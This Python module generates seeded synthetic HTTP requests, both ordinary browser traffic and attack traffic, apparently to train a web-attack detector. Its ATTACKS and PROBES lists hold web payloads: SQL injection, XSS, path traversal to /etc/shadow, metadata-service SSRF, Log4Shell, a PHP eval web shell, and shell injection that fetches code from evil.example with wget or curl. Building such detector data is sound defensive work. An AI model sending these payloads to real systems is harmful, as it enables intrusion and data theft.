"""Requests to train with: what browsers and programs send on an ordinary day, and what attackers send.

A request is its raw bytes, and no two are alike. Everything follows from a seed. They are written for this purpose
alone: what measures Portcullis uses others.
"""
import gzip
import json
import random
from urllib.parse import quote, quote_plus

# How many of a hundred requests are of a kind.
KINDS = {"page": 32, "asset": 10, "search": 8, "prose": 8, "form": 12, "json": 12, "upload": 4, "xml": 2, "packed": 2,
         "attack": 7, "table": 1, "noise": 2}

AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
]
LANGUAGES = ["en-GB,en;q=0.8", "de-AT,de;q=0.9,en;q=0.6", "fr-FR,fr;q=0.9,en-US;q=0.7,en;q=0.6", "sv,en;q=0.5"]
PAGES = ["/", "/shop/{0}", "/shop/{0}/{1}", "/news/2025/{2}/{0}-{1}", "/account/orders/{3}", "/help/{0}", "/library/shelf/{3}/books"]
ASSETS = ["/static/css/{0}.min.css", "/static/js/{0}.{4}.js", "/media/{0}/{1}-{3}.webp", "/fonts/{0}.woff2", "/favicon.ico"]
NAMES = ["sort", "view", "lang", "ref", "tab", "size", "colour", "page", "limit", "from"]
FIRST = ["Ingrid", "Mateo", "Aisha", "Pavel", "Noor", "Sinéad", "Jürgen", "Chloé", "Tomasz", "Yuki"]
LAST = ["Lindqvist", "O'Hara", "Öztürk", "Kowalski", "d'Aubigné", "Nguyen", "Fernández", "Smith-Jones", "Baumann", "Ito"]
# Enough for texts in which words come again as they do in texts.
WORDS = """a about above across after again ago air all alone along already also always an animal another answer any
apple are area around as ask at autumn away back bag bake ball bank bar basket be beach bear because bed before begin
behind below bench best better between big bird blue boat body book both bottle bowl box branch bread bridge bright
bring broken brother brown build but butter buy by cake call came can candle car card care carry castle cat chair
change cheap cheese child choose church city clean clear clock close cloth cloud coast coat coffee cold come common
cook corner could count cover cup cut dance dark day deep did dinner dish do dog door down draw dress drink drive dry
each early east easy eat edge egg eight else empty end enough evening ever every eye face fair fall family far farm
fast father feel few field fill find fine fire first fish five floor flower fly fog food foot for forest forget four
free fresh friend from front fruit full game garden gate get gift give glass go gold good grass great green grey
ground grow guest had hair half hall hand hang happy hard has hat have he hear heart heavy help her here hill him his
hold home hope horse hot hour house how hundred i ice idea if in inside into is island it its jacket join jump just
keep key kind king kitchen knew know lake lamp land large last late laugh leaf learn leave left less let letter light
like line list listen little live long look lost loud love low lunch made make many map market may me meal mean meet
middle might mile milk mind minute month moon more morning most mother mountain move much music must my name near neck
need never new next nice night nine no noise north not note nothing now number ocean of off often old on once one only
open orange order other our out over own page paint pan paper part pass past path pay pear pen people picture piece
place plan plant plate play please point pond poor post pot pretty price pull put quick quiet rain ran reach read
ready real red rest rice rich ride right ring rise river road rock roof room rope round run sad said sail salt same
sand save saw say school sea seat second see seed sell send seven shall shape she sheep ship shirt shoe shop short
should show side sign silver simple since sing sister sit six skin sky sleep slow small smile snow so soap some son
song soon soup south space speak spoon spring square stand star start stay step still stone stop store storm story
street strong such sugar summer sun sure sweet swim table take talk tall taste tea teach tell ten than thank that the
their them then there these they thick thin thing think this those three through time tiny to today together too took
top towards town train travel tree trip true try turn two under until up upon use valley very view village visit voice
wait walk wall want warm was wash watch water way we wear weather week well went were west what wheel when where which
while white who whole why wide will wind window winter wish with without woman wood wool word work world would write
year yellow yes yet you young your""".split()
# What attackers put where a value is expected.
ATTACKS = [
    "7' or 'x'='x' -- ", "12 union select card, holder from payments", "3; waitfor delay '0:0:7' --",
    "1 and extractvalue(rand(), concat(0x3a, user()))", "') or 5=5 limit 1 offset 2#", "1/*!50000or*/1=1",
    "<script src=//evil.example/a.js></script>", "\"><svg onload=prompt(document.domain)>",
    "<img src=q onerror='eval(name)'>", "javascript:confirm(1)//", "<a href=\"data:text/html,<script>alert(3)</script>\">x",
    "../../../../../../etc/shadow", "..%5c..%5cboot.ini", "file:///proc/self/environ", "/var/www/html/.htpasswd",
    "php://input", "https://evil.example/shell.php?", "http://169.254.169.254/latest/user-data",
    "; wget -qO- evil.example | sh", "| cat /etc/group", "$(uname -a)", "`curl evil.example`", "& net user /add eve",
    "() { :;}; /usr/bin/id", "${jndi:ldap://evil.example/x}", "${T(java.lang.Runtime).getRuntime().exec('env')}",
    "<?php eval($_POST['z']); ?>", "O:4:\"Evil\":1:{s:3:\"cmd\";s:2:\"id\";}", "{{config.__class__.__init__.__globals__}}",
    "#{9*9}", "*)(objectClass=*", "' or count(//user)=1 or 'a'='b", "en\r\nSet-Cookie: admin=1",
    "{\"$where\": \"sleep(900)\"}", "__import__('subprocess').check_output('id')", "require('fs').readdirSync('/')",
]
SCANNERS = ["sqlmap/1.9 (https://sqlmap.org)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "masscan/1.3"]
PROBES = ["/.git/HEAD", "/.env.production", "/wp-login.php.bak", "/cgi-bin/%2e%2e/%2e%2e/bin/sh", "/admin/..;/manager/html",
          "/backup/db.sql", "/actuator/heapdump", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"]


class Samples:
    """Requests from a seed."""

    def __init__(self, seed):
        self.random = random.Random(seed)
        # A client keeps its cookies and headers for a while, and so do these.
        self.clients = [self._client() for _ in range(12)]

    def take(self, count):
        """So many requests, kinds mixed."""
        kinds = self.random.choices(list(KINDS), weights=KINDS.values(), k=count)
        return [getattr(self, kind)() for kind in kinds]

    def page(self):
        return self._request("GET", self._path(PAGES) + self._query(self.random.randint(0, 4)))

    def asset(self):
        return self._request("GET", self._path(ASSETS), more=[("If-None-Match", f'"{self._hex(20)}"')],
                             accept="image/avif,image/webp,*/*;q=0.5")

    def search(self):
        words = self._prose(self.random.randint(8, 60))
        return self._request("GET", f"/search?q={quote_plus(words)}&scope={self._word()}{self._query(2).replace('?', '&')}")

    def prose(self):
        fields = (f"{self._word()}_{n}={quote_plus(self._prose(self.random.randint(30, 220)))}"
                  for n in range(self.random.randint(6, 22)))
        return self._request("GET", "/guestbook/preview?" + "&".join(fields))

    def form(self):
        fields = {"given": self._pick(FIRST), "family": self._pick(LAST), "mail": self._mail(),
                  "tel": f"+{self._digits(2)} {self._digits(3)} {self._digits(6)}", "city": self._word().capitalize(),
                  "zip": self._digits(5), "agree": "on", "token": self._hex(32),
                  "message": self._prose(self.random.randint(0, 1500))}
        wanted = self.random.randint(3, len(fields))
        body = "&".join(f"{name}={quote_plus(value)}" for name, value in self.random.sample(list(fields.items()), wanted))
        return self._fields(self._path(PAGES[1:]), body)

    def json(self):
        # A document is as large as its list is long: from a few values to some hundreds.
        document = {"cart": self._hex(24), "at": f"2025-0{self.random.randint(1, 9)}-1{self.random.randint(0, 9)}T08:30:00Z",
                    "buyer": {"name": f"{self._pick(FIRST)} {self._pick(LAST)}", "mail": self._mail(), "known": True},
                    "lines": [{"article": self._digits(8), "label": self._prose(40), "amount": self.random.randint(1, 9),
                               "net": round(self.random.uniform(1, 400), 2), "gift": None,
                               "options": {"size": self._word(), "remark": self._prose(self.random.randint(0, 160))}}
                              for _ in range(self.random.choice([1, 1, 2, 3, 6, 12]))]}
        return self._request("POST", f"/api/carts/{self._digits(6)}",
                             json.dumps(document, ensure_ascii=self.random.random() < 0.5).encode(),
                             "application/json", accept="application/json")

    def upload(self):
        boundary = "----FormBoundary" + self._hex(16)
        size = self.random.choice([2_000, 20_000, 60_000, 120_000])
        file = self.random.choice([self.random.randbytes(size), self._prose(size).encode()])
        parts = [(f'name="caption"', b"", self._prose(60).encode()), ('name="album"', b"", self._word().encode()),
                 (f'name="file"; filename="{self._word()}.jpg"', b"Content-Type: image/jpeg\r\n", b"\xff\xd8\xff\xe0" + file)]
        body = b"".join(f"--{boundary}\r\nContent-Disposition: form-data; {head}\r\n".encode() + kind + b"\r\n" + value + b"\r\n"
                        for head, kind, value in parts)
        return self._request("POST", "/album/add", body + f"--{boundary}--\r\n".encode(),
                             f"multipart/form-data; boundary={boundary}")

    def xml(self):
        items = "".join(f'<item n="{n}"><name>{self._prose(30)}</name><sum>{self._digits(3)}</sum></item>' for n in range(12))
        return self._request("POST", "/soap/stock", f'<?xml version="1.0"?><stock>{items}</stock>'.encode(), "text/xml")

    def packed(self):
        body = json.dumps({"events": [{"kind": self._word(), "text": self._prose(80)} for _ in range(20)]}).encode()
        return self._request("POST", "/api/events", gzip.compress(body), "application/json", [("Content-Encoding", "gzip")])

    def attack(self):
        text = self._pick(ATTACKS).replace("1", self._digits(1))
        where = self.random.randrange(7)
        if where == 0:
            return self._request("GET", self._pick(PROBES))
        if where == 1:
            return self._request("GET", "/" + self._query(1), agent=self._pick(SCANNERS))
        if where == 2:
            return self._fields("/comments", f"author={self._word()}&text={quote(text)}")
        if where == 3:
            return self._request("POST", "/api/notes", json.dumps({"id": 3, "note": text}).encode(), "application/json")
        if where == 4:
            return self._request("GET", "/", more=[("X-Forwarded-For", quote(text))])
        return self._request("GET", f"/view?id={quote_plus(text)}&lang=en{self._query(1).replace('?', '&')}")

    def table(self):
        """A form with a field for each cell, as planners, shops' back rooms and settings have them."""
        cells = [lambda: self._prose(25), self._word, lambda: self._digits(4), lambda: f"{self._digits(2)}.{self._digits(2)} %",
                 lambda: f"[{self._digits(1)}/{self._digits(1)}] {self._pick(LAST)}", lambda: "-" * self.random.randint(1, 8)]
        columns = self.random.choices(cells, k=8)
        fields = (f"row{row}_{column}={quote_plus(cell())}"
                  for row in range(self.random.choice([5, 20, 100])) for column, cell in enumerate(columns))
        return self._fields("/planner/save", "&".join(fields))

    def noise(self):
        """Fields full of anything, as fuzzers fill them, and of what begins like attacks and ends otherwise."""
        size = self.random.choice([60, 400, 3_000, 12_000, 60_000])
        if self.random.random() < 0.5:
            text = "".join(map(chr, self.random.choices(range(0x20, 0x7f), k=size)))
        else:
            text = "".join(self._pick(ATTACKS)[:self.random.randint(3, 30)] for _ in range(size // 16))
        return self._fields("/comments", f"author={self._word()}&text={quote_plus(text)}")

    def _fields(self, target, fields):
        return self._request("POST", target, fields.encode(), "application/x-www-form-urlencoded")

    def _request(self, method, target, body=None, kind=None, more=(), accept=None, agent=None):
        headers = dict(self._pick(self.clients))
        # As the pages that count visits change it.
        headers["Cookie"] += f"; seen={self._digits(10)}.{self._hex(24)}"
        if accept:
            headers["Accept"] = accept
        if agent:
            headers["User-Agent"] = agent
        headers.update(more)
        if body is not None:
            headers.update({"Content-Type": kind, "Content-Length": str(len(body)), "Origin": "https://training.example"})
        lines = [f"{method} {target} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
        return "\r\n".join(lines).encode() + b"\r\n\r\n" + (body or b"")

    def _client(self):
        return {"Host": "training.example", "User-Agent": self._pick(AGENTS),
                "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                "Accept-Language": self._pick(LANGUAGES), "Accept-Encoding": self._pick(["gzip, deflate, br, zstd", "gzip"]),
                "Referer": "https://training.example" + self._path(PAGES),
                "Cookie": f"session={self._hex(40)}; mode={self._word()}; _v=2.{self._digits(9)}.{self._digits(10)}"}

    def _path(self, choice):
        return self._pick(choice).format(self._word(), self._word(), self._digits(2), self._digits(5), self._hex(8))

    def _query(self, count):
        pairs = (f"{name}={self._pick([self._word(), self._digits(3), self._hex(12)])}"
                 for name in self.random.sample(NAMES, count))
        return "?" + "&".join(pairs) if count else ""

    def _prose(self, length):
        out = ""
        while len(out) < length:
            words = self.random.choices(WORDS, k=self.random.randint(3, 14))
            if self.random.random() < 0.3:
                words[1] += self._pick([",", ",", " -", ":"])
            out += " ".join(words).capitalize() + self._pick([". ", ". ", "! ", "? ", ".\n"])
        return out[:length].strip()

    def _mail(self):
        return f"{self._word()}.{self._word()}{self._digits(2)}@{self._word()}.example"

    def _word(self):
        return self._pick(WORDS)

    def _digits(self, count):
        return "".join(self.random.choices("0123456789", k=count))

    def _hex(self, count):
        return "".join(self.random.choices("0123456789abcdef", k=count))

    def _pick(self, choice):
        return self.random.choice(choice)
